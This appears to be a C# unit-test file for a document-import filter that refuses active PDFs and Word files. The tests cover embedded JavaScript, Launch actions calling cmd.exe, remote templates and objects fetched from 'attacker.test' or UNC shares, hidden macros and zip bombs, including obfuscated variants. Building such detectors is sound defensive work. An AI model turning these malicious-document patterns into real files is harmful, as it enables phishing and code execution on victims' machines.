using System.IO.Compression;
using System.Text;
using EstatesPlanner.Import;
using EstatesPlanner.KeptFiles;

namespace EstatesPlanner.Tests.Evidence;

/// <summary>Documents that do something when they are opened are not kept; those that only look like it are.</summary>
public class ActiveEvidenceTests
{
    private const string Rels = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/";

    private static readonly byte[] Ole = [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, 0, 0];

    public static readonly TheoryData<string, string> ActivePdf = new()
    {
        { "/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>", "a script" },
        { "/OpenAction<</S /J#61vaScript /JS 5 0 R>>", "a script" },
        { "/AA<</O<</S%remark\n/JavaScript>>>>", "a script" },
        { "/Names<</JavaScript 4 0 R>>", "a script" },
        { "/A<</S/Rendition/JS(x)>>", "a script" },
        { "/OpenAction<</S/Launch/F(cmd.exe)>>", "an action that starts another program" },
        { "/Names<</EmbeddedFiles 4 0 R>>", "other files inside it" },
        { "/Note<</Type/EmbeddedFile>>", "other files inside it" },
        { "/Annots[<</Subtype/FileAttachment>>]", "other files inside it" },
        { "/Annots[<</Subtype /RichMedia>>]", "a film or program inside it" },
        { "/A<</S/SubmitForm/F(http://x.test)>>", "a form that sends or reads files" },
    };

    [Theory]
    [MemberData(nameof(ActivePdf))]
    public void A_pdf_that_does_something_is_refused_plain_packed_or_behind_a_false_stream(string part, string what)
    {
        Assert.Contains($"This PDF holds {what}.", Refused(Pdf(part)), StringComparison.Ordinal);
        Assert.Contains($"This PDF holds {what}.", Refused(Packed(part)), StringComparison.Ordinal);
    }

    [Fact]
    public void A_script_behind_what_only_looks_like_a_stream_is_found() =>
        Assert.Contains(
            "a script",
            Refused(Pdf("/Title(>> stream\n) /OpenAction<</S/JavaScript/JS(x)>> /End(endstream)")),
            StringComparison.Ordinal
        );

    [Theory]
    [InlineData("/URI(https://example.nhs.uk/Launch/JavaScript/EmbeddedFileX)")]
    [InlineData("/OpenAction[3 0 R /Fit]")]
    [InlineData("/Title(How to turn JavaScript off)")]
    [InlineData("/Lang(en-GB)/AcroForm<</Fields[]>>")]
    public void A_pdf_that_does_nothing_is_kept(string part)
    {
        Assert.Equal(KeptKind.Pdf, KindByContent.Of(Pdf(part), "a.pdf"));
        Assert.Equal(KeptKind.Pdf, KindByContent.Of(Packed(part), "a.pdf"));
    }

    [Fact]
    public void A_pdf_whose_objects_cannot_be_opened_is_refused() =>
        Assert.Contains(
            "locked or damaged",
            Refused(Encoding.Latin1.GetBytes("%PDF-1.7\n1 0 obj <</Type/ObjStm/Length 4>>\nstream\nxxxx\nendstream endobj")),
            StringComparison.Ordinal
        );

    public static readonly TheoryData<string, string, string> Fetching = new()
    {
        { "attachedTemplate", "http://attacker.test/t.dotm", "fetches its template from a network" },
        { "attachedTemplate", "https://attacker.test/t.dotm", "fetches its template from a network" },
        { "attachedTemplate", @"\\\\attacker\\share\\t.dotm", "fetches its template from a network" },
        { "attachedTemplate", "file://///attacker/share/t.dotm", "fetches its template from a network" },
        { "image", "http://attacker.test/pixel.png", "fetches a part of itself from a network" },
        { "frame", "http://attacker.test/page", "fetches a part of itself from a network" },
        { "oleObject", "http://attacker.test/x", "object of another program" },
    };

    [Theory]
    [MemberData(nameof(Fetching))]
    public void A_document_that_fetches_something_when_opened_is_refused(string type, string target, string sentence) =>
        Assert.Contains(
            sentence,
            Refused(Docx(("word/_rels/settings.xml.rels", Rel(type, target, external: true)))),
            StringComparison.Ordinal
        );

    [Theory]
    [InlineData("hyperlink", "https://www.england.nhs.uk/")]
    [InlineData("attachedTemplate", "file:///C:/Users/somebody/Templates/Report.dotx")]
    [InlineData("attachedTemplate", "Normal.dotm")]
    public void A_document_with_links_to_click_or_a_template_on_the_writers_own_disk_is_kept(string type, string target) =>
        Assert.Equal(KeptKind.Docx, KindByContent.Of(Docx(("word/_rels/settings.xml.rels", Rel(type, target, external: true))), "a.docx"));

    [Fact]
    public void Macros_and_objects_are_found_whatever_they_are_called()
    {
        Assert.Contains("object of another program", Refused(Docx(("word/media/picture.png", Ole))), StringComparison.Ordinal);
        Assert.Contains("object of another program", Refused(Docx(("word/embeddings/oleObject1.bin", Ole))), StringComparison.Ordinal);
        Assert.Contains(
            "macros",
            Refused(
                Docx(
                    (
                        "word/_rels/document.xml.rels",
                        Encoding.UTF8.GetBytes(
                            "<Relationships><Relationship Type=\"http://schemas.microsoft.com/office/2006/relationships/vbaProject\" Target=\"style.dat\"/></Relationships>"
                        )
                    )
                )
            ),
            StringComparison.Ordinal
        );
        Assert.Contains(
            "macros",
            Refused(
                TestFiles.Office(
                    "word/document.xml",
                    "<Override PartName=\"/word/style.dat\" ContentType=\"application/vnd.ms-office.vbaProject\"/>"
                )
            ),
            StringComparison.Ordinal
        );
        Assert.Contains(
            "macros",
            Refused(Docx(("word/embeddings/Sheet1.xlsx", TestFiles.Office("xl/workbook.xml", "", "xl/vbaProject.bin")))),
            StringComparison.Ordinal
        );
    }

    [Fact]
    public void A_workbook_behind_a_chart_is_kept_and_a_zip_or_a_bomb_is_not()
    {
        Assert.Equal(KeptKind.Docx, KindByContent.Of(Docx(("word/embeddings/Sheet1.xlsx", TestFiles.Office("xl/workbook.xml"))), "a.docx"));
        Assert.Contains(
            "zip of other files",
            Refused(Docx(("word/media/picture.png", TestFiles.Office("photos/1.jpg")))),
            StringComparison.Ordinal
        );
        Assert.Contains("200 times", Refused(Docx(("word/styles.xml", new byte[8 * 1024 * 1024]))), StringComparison.Ordinal);
        Assert.Contains(
            "packed in a way that is not allowed",
            Refused(Docx(("word/media/picture.png", new byte[300 * 1024 * 1024]))),
            StringComparison.Ordinal
        );
    }

    private static string Refused(byte[] content) => Assert.Throws<FileRefusal>(() => KindByContent.Of(content, "a.docx")).Message;

    private static byte[] Pdf(string part) =>
        Encoding.Latin1.GetBytes($"%PDF-1.7\n1 0 obj<</Type/Catalog {part}>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n");

    private static byte[] Packed(string part)
    {
        using var packed = new MemoryStream();
        using (var zlib = new ZLibStream(packed, CompressionLevel.Optimal, leaveOpen: true))
        {
            zlib.Write(Encoding.Latin1.GetBytes($"1 0 <</Type/Catalog {part}>>"));
        }

        return
        [
            .. Encoding.Latin1.GetBytes(
                $"%PDF-1.7\n2 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length {packed.Length}>>\nstream\n"
            ),
            .. packed.ToArray(),
            .. "\nendstream endobj\n%%EOF\n"u8,
        ];
    }

    private static byte[] Rel(string type, string target, bool external) =>
        Encoding.UTF8.GetBytes(
            $"<Relationships><Relationship Id=\"r1\" Type=\"{Rels}{type}\" Target=\"{target}\"{(external ? " TargetMode=\"External\"" : "")}/></Relationships>"
        );

    private static byte[] Docx(params (string Name, byte[] Content)[] more)
    {
        using var stream = new MemoryStream();
        using (var zip = new ZipArchive(stream, ZipArchiveMode.Create, leaveOpen: true))
        {
            foreach (
                var (name, content) in more.Prepend(("word/document.xml", "<w/>"u8.ToArray()))
                    .Prepend(("[Content_Types].xml", "<Types/>"u8.ToArray()))
            )
            {
                using var part = zip.CreateEntry(name).Open();
                part.Write(content);
            }
        }

        return stream.ToArray();
    }
}
